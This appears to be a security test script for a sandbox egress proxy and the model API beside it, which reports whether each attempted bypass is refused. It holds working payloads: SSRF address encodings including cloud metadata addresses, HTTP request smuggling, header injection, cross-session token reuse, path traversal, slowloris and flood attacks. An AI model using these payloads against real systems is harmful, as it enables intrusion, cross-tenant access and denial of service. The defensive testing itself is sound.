"""Tries, from inside a sandbox, to get through the proxy what it must not let through. Prints one line of JSON an attack:
its name and the first line of what was answered, or "closed"."""

import concurrent.futures
import json
import socket
import ssl
import sys
import time

own, other_session = sys.argv[1:]


def connect(limit=20):
    return socket.create_connection(("127.0.0.1", 3128), timeout=limit)


def ask(*parts, pause=0, limit=20):
    answer = b""
    connection = connect(limit)
    try:
        for part in parts:
            connection.sendall(part)
            time.sleep(pause)
    except OSError:
        pass
    try:
        while len(answer) < 65536:
            data = connection.recv(65536)
            if not data:
                break
            answer += data
    except TimeoutError:
        answer = answer or b"timeout"
    except OSError:
        pass
    connection.close()
    return answer.split(b"\r\n")[0].decode("latin-1") or "closed"


def tell(name, answer):
    print(json.dumps({"attack": name, "answer": answer}), flush=True)


def both(name, host):
    tell(f"tunnel to {name}", ask(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode()))
    tell(f"request to {name}", ask(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))


# Addresses, in all the ways in which somebody takes something for one.
for host in [
    "127.0.0.1", "127.1", "0177.0.0.1", "0x7f.1", "2130706433", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1%25lo]", "0", "0.0.0.0",
    "169.254.169.254", "[fd00:ec2::254]", "localhost", "10.0.0.1", "127.0.0.1.", "127.0.0.1@deb.example",
]:
    both(f"address {host}", host)
# Names that lead inside.
for name in ["loopback", "six", "mapped", "metadata", "metadata6", "private"]:
    both(f"name {name}", f"{name}.example")

plain = b"POST http://deb.example/ HTTP/1.1\r\nHost: deb.example\r\n"
other = other_session.encode()
tell("both lengths", ask(plain + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n"))
tell("two lengths", ask(plain + b"Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd"))
tell("two hosts", ask(plain + b"Host: other\r\n\r\n"))
tell("folded line", ask(plain + b"X: a\r\n b: c\r\n\r\n"))
tell("bare line feed", ask(plain.replace(b"\r\n", b"\n") + b"\n\r\n\r\n"))
tell("space before colon", ask(plain + b"Transfer-Encoding : chunked\r\n\r\n"))
tell("header injection", ask(b"GET http://deb.example/\rX-Rookery-Session:" + other + b" HTTP/1.1\r\n\r\n"))
tell("header injection in a host", ask(b"CONNECT deb.example\r\nX:80 HTTP/1.1\r\n\r\n"))
tell("huge head", ask(plain + b"X: " + b"y" * 200_000 + b"\r\n\r\n"))
tell("many fields", ask(plain + b"X: y\r\n" * 1000 + b"\r\n"))
tell("chunk with an extension", ask(plain + b"Transfer-Encoding: chunked\r\n\r\n2;x=y\r\nhi\r\n0\r\n\r\n"))
tell("smuggled behind a body", ask(plain + b"Content-Length: 2\r\n\r\nhiGET /smuggled HTTP/1.1\r\nHost: admin\r\n\r\n"))
tell("another session's name", ask(b"session " + other + b"\nCONNECT deb.example:80 HTTP/1.1\r\n\r\n"))
tell("tunnel of another host", ask(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n"))
tell("not TLS", ask(b"CONNECT pypi.example:443 HTTP/1.1\r\n\r\n", b"SSH-2.0-x\r\n", pause=0.3))


def handshake(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    connection = connect()
    connection.sendall(b"CONNECT pypi.example:443 HTTP/1.1\r\n\r\n")
    answer = connection.recv(4096)
    if b" 200 " not in answer:
        return answer.decode("latin-1")
    try:
        with context.wrap_socket(connection, server_hostname=name):
            return "through"
    except ssl.SSLError as error:
        return f"alert {error.reason}"
    except OSError:
        return "closed"


tell("another server's name", handshake("evil.example"))
tell("no server's name", handshake(None))
tell("its own server's name", handshake("pypi.example"))

# The model API beside it.
placeholder = b"Authorization: Bearer rookery-session-"


def model(line, *fields, body=b"", token=None):
    head = line + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + placeholder + (token or own.encode()) + b"\r\n"
    return ask(head + b"".join(field + b"\r\n" for field in fields) + b"\r\n" + body)


tell("model: its own placeholder", model(b"GET /v1/models"))
tell("model: another session's placeholder", model(b"GET /v1/models", token=other))
tell("model: another session's name", model(b"GET /v1/models", b"X-Rookery-Session: " + other, token=other))
tell("model: path with dots", model(b"GET /v1/../../admin"))
tell("model: path in code", model(b"GET /v1/models/%2e%2e%2f%2e%2e%2fadmin"))
tell("model: path with slashes", model(b"GET //v1/models/../sessions"))
tell("model: other endpoint", model(b"GET /v1/organizations"))
tell("model: the server's own API", model(b"GET /v1/sessions"))
tell(
    "model: both lengths",
    model(
        b"POST /v1/messages", b"Content-Length: 4", b"Transfer-Encoding: chunked",
        body=b"0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n"))
tell("model: huge head", model(b"GET /v1/models", b"X: " + b"y" * 1_000_000))
tell("model: huge body", model(b"POST /v1/messages", b"Content-Length: 1000000000", body=b"x" * (80 << 20)))


# As many connections as it likes, each asking for something slow to decide.
held = []
for _ in range(2000):
    try:
        connection = connect(limit=2)
        connection.sendall(b"CONNECT pypi.example:443 HTTP/1.1\r\n")
        held.append(connection)
    except OSError:
        break
tell("thousands of connections", f"held {len(held)}")
# Slow drip: the head never ends, and the proxy does not wait for ever.
began = time.monotonic()
closed = False
try:
    while time.monotonic() - began < 40 and not closed:
        held[0].sendall(b"X")
        held[0].settimeout(1)
        try:
            # An answer, or the end.
            closed = held[0].recv(4096) is not None
        except TimeoutError:
            pass
except OSError:
    closed = True
tell("slow drip of a head", f"closed {closed} early {time.monotonic() - began < 35}")
for connection in held:
    connection.close()


def opened():
    """A tunnel, once those that were just closed no longer count against the session's number of connections."""
    for _ in range(50):
        connection = connect(limit=60)
        try:
            connection.sendall(b"CONNECT pypi.example:443 HTTP/1.1\r\n\r\n")
            if connection.recv(4096).startswith(b"HTTP/1.1 200"):
                return connection
        except OSError:
            pass
        connection.close()
        time.sleep(0.2)
    sys.exit("no tunnel is opened ten seconds after the last were closed")


# The same behind an opened tunnel: a first message that does not end.
began = time.monotonic()
connection = opened()
closed = False
try:
    for byte in b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"z" * 100:
        connection.sendall(bytes([byte]))
        connection.settimeout(0.5)
        try:
            closed = connection.recv(1) == b""
        except TimeoutError:
            continue
        break
except OSError:
    closed = True
tell("slow drip of a first message", f"closed {closed} early {time.monotonic() - began < 35}")


def refused(_):
    try:
        return ask(b"CONNECT evil.example:25 HTTP/1.1\r\n\r\n").startswith("HTTP/1.1 403")
    except OSError:
        return False


# As fast as it can.
began = time.monotonic()
with concurrent.futures.ThreadPoolExecutor(32) as threads:
    answers = list(threads.map(refused, range(400)))
tell("flood", f"{sum(answers)} of 400 refused in {time.monotonic() - began:.1f} s")
tell("end", "end")
